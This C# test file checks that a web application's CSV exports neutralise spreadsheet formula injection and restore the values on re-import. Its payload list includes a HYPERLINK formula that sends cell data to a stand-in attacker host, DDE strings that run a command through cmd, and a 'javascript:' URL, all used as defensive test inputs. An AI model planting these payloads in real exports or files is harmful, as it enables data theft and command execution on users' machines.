using Microsoft.Extensions.DependencyInjection;
using Scoran.Core.Text;
using Scoran.Data;
using Scoran.Funding.Rules;
using Scoran.Resources.Places;
using Scoran.Steering.Exchange;
using Scoran.Testing;

namespace Scoran.Web.Tests.Security;

/// <summary>
/// Security review F7: no CSV export lets a cell from data start with =, +, -, @, TAB or CR (it is prefixed with « ' »);
/// numbers written by the application stay numbers; a strategy exported then re-imported keeps its values.
/// </summary>
public abstract class CsvInjectionTests(DatabaseProvider provider)
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    public static readonly string[] Payloads = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r=1"];

    [Fact]
    public void The_csv_text_helper_neutralises_formula_cells_and_restores_them_on_re_import()
    {
        foreach (var p in Payloads)
        {
            Assert.Equal("'" + p, CsvText.Neutralise(p));
            Assert.StartsWith("\"'", CsvText.Quoted(p), StringComparison.Ordinal);
            Assert.Equal(p, CsvText.Restore(CsvText.Neutralise(p)));
        }

        Assert.Equal("Dijon", CsvText.Minimal("Dijon"));
        Assert.Equal("\"a;b\"", CsvText.Minimal("a;b"));
        Assert.Equal("'ordinaire", CsvText.Restore("'ordinaire"));

        // The co-financing plan: a scheme named like a formula (catalogue data), amounts still plain numbers.
        var plan = new Plan(100_000m, [new PlanLine("x", "=cmd|' /C calc'!A0", "@SUM(1+1)", 100_000m, 50m, 50_000m, 50_000m, 50m, "-1+1")], 50_000m, 50_000m, 50m, 80_000m, null, []);
        var csv = PlanExport.Csv(plan);
        Assert.Contains("\"'=cmd|' /C calc'!A0\";\"'@SUM(1+1)\";100000;50;50000;50000;50;\"'-1+1\"", csv);
        AssertNoFormulaCell(csv, ';');
    }

    [Fact]
    public async Task F7_the_public_mediation_numerique_export_neutralises_imported_formulas()
    {
        TestDatabase.RequireEngine(provider);
        await using var database = await TestDatabase.CreateAsync(provider, "seccsv");
        await using var factory = new ScoranAppFactory(database.Storage);
        await using (var scope = factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<ScoranDbContext>();
            var i = 0;
            foreach (var payload in Payloads)
            {
                i++;
                db.Add(new InclusionPlace
                {
                    Source = "sec", SourceId = $"X{i}", Name = payload, SearchText = "x", Address = payload, CommuneName = "Dijon", CommuneCode = "21231", PostalCode = "21000",
                    DepartementCode = "21", Latitude = 47.322 + i / 1000.0, Longitude = -5.041, Website = "javascript:alert(1)", Description = payload,
                });
            }

            await db.SaveChangesAsync(Token);
        }

        var csv = await factory.CreateClient().GetStringAsync("/api/resources/places/export/mediation-numerique.csv", Token);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Cliquez\"\")\"", csv);
        Assert.Contains("\"'+1+1\"", csv);
        Assert.Contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\"", csv);
        // The longitude the application writes stays a number, minus sign included.
        Assert.Contains(",-5.041,", csv);
        AssertNoFormulaCell(csv, ',', allowNumbers: true);
    }

    [Fact]
    public async Task A_strategy_exported_to_csv_and_read_back_keeps_formula_like_titles()
    {
        var file = Directory.GetFiles(Path.Combine(SharedData.RepositoryRoot, "data", "strategy"), "*.json").Order(StringComparer.Ordinal).First();
        var document = await StrategyFiles.ReadAsync(file, Token);
        var title = document.Title;
        var csv = StrategyCsv.Write(document with { Title = "=1+1 " + title });
        Assert.DoesNotContain(";=1+1", csv);
        Assert.Equal("=1+1 " + title, StrategyCsv.Read("export.csv", csv).Title);
    }

    /// <summary>Every cell, unquoted, must not start like a formula (numbers allowed where the application writes them).</summary>
    private static void AssertNoFormulaCell(string csv, char separator, bool allowNumbers = false)
    {
        foreach (var (_, cells) in StrategyCsv.Parse(csv, separator))
        {
            foreach (var cell in cells)
            {
                if (allowNumbers && double.TryParse(cell, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _)) continue;
                Assert.False(CsvText.IsFormulaLike(cell), cell);
            }
        }
    }
}

public sealed class SqliteCsvInjectionTests() : CsvInjectionTests(DatabaseProvider.Sqlite);

public sealed class PostgresCsvInjectionTests() : CsvInjectionTests(DatabaseProvider.Postgres);
